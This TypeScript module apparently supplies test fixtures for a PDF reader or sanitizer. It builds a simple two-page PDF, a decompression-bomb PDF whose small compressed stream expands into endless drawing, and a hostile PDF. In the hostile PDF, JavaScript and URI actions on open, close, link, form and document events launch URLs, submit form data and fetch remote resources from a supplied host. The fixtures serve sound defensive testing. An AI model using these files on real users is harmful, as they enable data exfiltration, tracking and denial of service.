import { deflateSync } from 'node:zlib';

/** A PDF of these objects; readers find them by looking through it, where no table says where they are. */
export const pdfOf = (objects: string[], catalog = ''): string =>
  [
    '%PDF-1.7',
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj`,
    ...objects,
    'trailer << /Root 1 0 R >>',
    '%%EOF',
    '',
  ].join('\n');

const stream = (id: number, content: string, more = ''): string =>
  `${id} 0 obj << /Length ${content.length} ${more} >> stream\n${content}\nendstream endobj`;

const FONT = '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>';
const SIZE = '/MediaBox [0 0 300 200]';

/** Two pages that say so, the first one on a red ground. */
export const twoPages = (): string =>
  pdfOf([
    '2 0 obj << /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >> endobj',
    `3 0 obj << /Type /Page /Parent 2 0 R ${SIZE} /Contents 5 0 R ${FONT} >> endobj`,
    `4 0 obj << /Type /Page /Parent 2 0 R ${SIZE} /Contents 6 0 R ${FONT} >> endobj`,
    stream(5, '1 0 0 rg 0 0 300 200 re f 0 g BT /F1 24 Tf 20 100 Td (First page) Tj ET'),
    stream(6, '0 0 1 rg 0 0 300 200 re f 0 g BT /F1 24 Tf 20 100 Td (Second page) Tj ET'),
  ]);

/** A page on which the same is drawn again and again, so many times, from a few bytes. */
export function endlessPdf(times: number): string {
  const packed = deflateSync(Buffer.alloc(16 * times, '0 0 300 200 re f')).toString('latin1');
  return pdfOf([
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    `3 0 obj << /Type /Page /Parent 2 0 R ${SIZE} /Contents 5 0 R >> endobj`,
    stream(5, packed, '/Filter /FlateDecode'),
  ]);
}

/** Runs, opens, fetches and sends wherever a PDF can say so. */
export function hostilePdf(url: string): string {
  const script = `<< /S /JavaScript /JS (app.alert\\('owned'\\); app.launchURL\\('${url}/js'\\); this.submitForm\\('${url}/submit'\\);) >>`;
  const uri = `<< /S /URI /URI (${url}/uri) >>`;
  const remote = `<< /FS /URL /F (${url}/image) >>`;
  return pdfOf(
    [
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      `3 0 obj << /Type /Page /Parent 2 0 R ${SIZE} /Contents 5 0 R /AA << /O ${script} /C ${script} >>
       /Annots [6 0 R 7 0 R 8 0 R] /Resources << /XObject << /X 9 0 R >> >> >> endobj`,
      stream(5, '0 1 0 rg 0 0 300 200 re f /X Do'),
      `6 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ${uri} /AA << /E ${script} /PO ${uri} >> >> endobj`,
      `7 0 obj << /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 90 90] /AA << /K ${script} /F ${script} >> >> endobj`,
      `8 0 obj << /Type /Annot /Subtype /Screen /Rect [0 0 90 90] /A << /S /Rendition /R << /S /MR /C << /S /MCD /D ${remote} >> >> /OP 0 >> >> endobj`,
      `9 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Length 0 /F ${remote} >> stream\n\nendstream endobj`,
    ],
    `/OpenAction ${script} /AA << /WC ${script} >> /URI << /Base (${url}/) >>
     /Names << /JavaScript << /Names [(a) ${script}] >> >>
     /AcroForm << /Fields [7 0 R] /XFA 10 0 R >>`,
  );
}
